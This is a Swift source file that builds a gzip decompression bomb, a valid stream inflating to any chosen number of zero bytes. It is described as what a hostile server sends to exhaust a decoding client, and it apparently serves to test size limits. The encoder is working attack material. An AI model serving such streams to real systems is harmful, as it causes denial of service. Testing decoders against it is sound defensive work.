/// A gzip stream (RFC 1952) whose deflate data (RFC 1951) decodes to `decodedSize` zero bytes: what a
/// hostile server sends to make a client that decodes `Content-Encoding: gzip` grow without bound.
///
/// One fixed-Huffman block: the literal 0, then back-references of 258 bytes at distance 1, 13 bits each:
/// about 6.6 KB of stream per MiB decoded (128 MiB in 845 KB).
/// The trailer's CRC-32 is computed arithmetically (the zeros shift the register; no pass over the bytes),
/// so a well-behaved decoder accepts the whole stream.
public enum GzipBomb {
    /// The stream. `decodedSize` must be at least 1.
    public static func bytes(decodedSize: Int) -> [UInt8] {
        precondition(decodedSize >= 1, "a bomb decodes to at least one byte")
        var bits = BitWriter()
        bits.write(1, count: 1)  // BFINAL: the last block
        bits.write(1, count: 2)  // BTYPE 01: fixed Huffman codes
        bits.writeCode(0x30, count: 8)  // literal 0
        var remaining = decodedSize - 1
        while remaining > 0 {
            if remaining < 3 {
                bits.writeCode(0x30, count: 8)  // a literal 0: no match is shorter than 3
                remaining -= 1
                continue
            }
            let length = min(258, remaining)
            let (symbol, extra, extraBits) = lengthSymbol(length)
            if symbol < 280 {
                bits.writeCode(UInt32(symbol - 256), count: 7)
            } else {
                bits.writeCode(UInt32(0xC0 + symbol - 280), count: 8)
            }
            bits.write(UInt32(extra), count: extraBits)
            bits.writeCode(0, count: 5)  // distance code 0: distance 1, no extra bits
            remaining -= length
        }
        bits.writeCode(0, count: 7)  // end of block (256)
        let deflate = bits.finish()

        var stream: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]  // deflate, no name, no time, Unix
        stream.reserveCapacity(deflate.count + 18)
        stream += deflate
        stream += littleEndian(crc32OfZeros(count: decodedSize))
        stream += littleEndian(UInt32(truncatingIfNeeded: decodedSize))
        return stream
    }

    /// The length symbol (257…285) for a match of `length` (3…258), with its extra bits' value and count.
    private static func lengthSymbol(_ length: Int) -> (symbol: Int, extra: Int, extraBits: Int) {
        if length == 258 { return (285, 0, 0) }
        if length <= 10 { return (254 + length, 0, 0) }
        // Symbols 265…284 cover 11…257 in groups of four, each group's span twice the previous.
        var base = 11
        var extraBits = 1
        var symbol = 265
        while true {
            let span = 1 << extraBits
            if length < base + 4 * span {
                let index = (length - base) / span
                return (symbol + index, (length - base) % span, extraBits)
            }
            base += 4 * span
            symbol += 4
            extraBits += 1
        }
    }

    /// CRC-32 (IEEE, as gzip uses it) of `count` zero bytes: the register, initially all ones, multiplied by
    /// x^(8·count) modulo the polynomial, then inverted.
    static func crc32OfZeros(count: Int) -> UInt32 {
        multiplyModP(xToThe8n(count), 0xFFFF_FFFF) ^ 0xFFFF_FFFF
    }

    private static let polynomial: UInt32 = 0xEDB8_8320

    /// a·b modulo the CRC polynomial, in the bit-reflected representation CRC-32 uses.
    private static func multiplyModP(_ a: UInt32, _ b: UInt32) -> UInt32 {
        var mask: UInt32 = 1 << 31
        var b = b
        var product: UInt32 = 0
        while mask != 0 {
            if a & mask != 0 { product ^= b }
            mask >>= 1
            b = b & 1 != 0 ? (b >> 1) ^ polynomial : b >> 1
        }
        return product
    }

    /// x^(8·n) modulo the polynomial, by squaring.
    private static func xToThe8n(_ n: Int) -> UInt32 {
        var result: UInt32 = 1 << 31  // x^0
        var power: UInt32 = 1 << 23  // x^8
        var n = n
        while n > 0 {
            if n & 1 != 0 { result = multiplyModP(power, result) }
            power = multiplyModP(power, power)
            n >>= 1
        }
        return result
    }

    private static func littleEndian(_ value: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * $0)) }
    }

    /// Deflate's bit order: values least significant bit first, Huffman codes most significant bit first.
    private struct BitWriter {
        private var bytes: [UInt8] = []
        private var accumulator: UInt64 = 0
        private var filled = 0

        mutating func write(_ value: UInt32, count: Int) {
            accumulator |= UInt64(value) << filled
            filled += count
            while filled >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: accumulator))
                accumulator >>= 8
                filled -= 8
            }
        }

        mutating func writeCode(_ code: UInt32, count: Int) {
            var reversed: UInt32 = 0
            for bit in 0..<count where code & (1 << bit) != 0 { reversed |= 1 << (count - 1 - bit) }
            write(reversed, count: count)
        }

        mutating func finish() -> [UInt8] {
            if filled > 0 { bytes.append(UInt8(truncatingIfNeeded: accumulator)) }
            accumulator = 0
            filled = 0
            return bytes
        }
    }
}
